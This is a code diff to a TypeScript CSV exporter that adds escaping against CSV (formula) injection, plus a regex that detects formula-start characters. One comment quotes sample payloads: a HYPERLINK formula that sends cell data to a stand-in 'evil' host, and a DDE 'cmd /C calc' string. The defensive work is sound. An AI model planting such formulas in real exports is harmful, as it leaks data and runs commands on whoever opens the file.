@@ -7,9 +7,25 @@ export interface CsvOptions {
   delimiter: string;
   /** A UTF-8 byte order mark first, which some spreadsheet programs need to read UTF-8. */
   bom: boolean;
+  /** Text that a spreadsheet would run as a formula gets a leading `'` (see `neutralise`); on unless asked off. */
+  escapeFormulas: boolean;
 }
 
 type Encode = (value: unknown) => string;
+
+/** What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab, CR. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** A plain signed number (`-123`, `+4.5`, `-1,234.50`): a spreadsheet reads it as a number, never a formula. */
+const PLAIN_NUMBER = /^[+-]?[0-9][0-9.,]*$/;
+
+/**
+ * CSV injection: a text cell such as `=HYPERLINK("http://evil/?"&A1,"Click")` or `@SUM(1+9)*cmd|' /C calc'!A0`
+ * runs as a formula in the spreadsheet of whoever opens the export, with data of other rows at hand. OWASP's
+ * remedy: such a cell starts with `'`, which spreadsheets take as "this is text". A text that is only a
+ * signed number (an article number `-123`) is left alone: it cannot be a formula, and the quote would change
+ * data that programs read. Only text and JSON cells get here: numbers, money and dates are written as they are.
+ */
+export const neutralise = (s: string): string => (FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s);
 
 /*
  * RFC 4180 fields written by hand rather than through csv-stringify: `npm run bench:exports` encodes the rows of
@@ -18,9 +34,10 @@ type Encode = (value: unknown) => string;
  * 0.2 s. The rules are few: a field that holds the delimiter, a quote, CR or LF is quoted, with quotes doubled;
  * records end in CRLF. Numbers, money and dates can hold none of those characters, so only text is checked.
  */
-function encoder(type: CellType, delimiter: string): Encode {
+function encoder(type: CellType, delimiter: string, escapeFormulas: boolean): Encode {
   const special = new RegExp(`[${delimiter === '\t' ? '\\t' : `\\${delimiter}`}"\\r\\n]`);
-  const text = (s: string): string => (special.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
+  const quoted = (s: string): string => (special.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
+  const text = escapeFormulas ? (s: string): string => quoted(neutralise(s)) : quoted;
   switch (type) {
     case 'integer':
     case 'number':
@@ -44,8 +61,8 @@ export class CsvEncoder {
 
   constructor(columns: ExportColumn[], options: CsvOptions) {
     this.delimiter = options.delimiter;
-    this.encoders = columns.map((c) => encoder(c.type, options.delimiter));
-    const names = encoder('string', options.delimiter);
+    this.encoders = columns.map((c) => encoder(c.type, options.delimiter, options.escapeFormulas));
+    const names = encoder('string', options.delimiter, false);
     this.header = (options.bom ? '\uFEFF' : '') + columns.map((c) => names(c.name)).join(this.delimiter) + '\r\n';
   }
 
